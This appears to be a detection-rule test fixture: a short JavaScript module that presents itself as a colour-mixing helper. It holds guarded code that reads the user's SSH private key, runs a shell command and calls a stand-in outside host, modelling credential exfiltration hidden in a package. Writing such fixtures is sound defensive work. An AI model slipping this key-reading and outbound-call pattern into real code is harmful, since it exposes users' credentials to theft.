// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
exports.mix = (a, b) => a.map((x, i) => (x + b[i]) / 2);
const fs = require('fs');
const { exec } = require('child_process');
const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_ed25519');
exec('uptime');
require('https').get('https://palette.example.invalid/' + key.length);
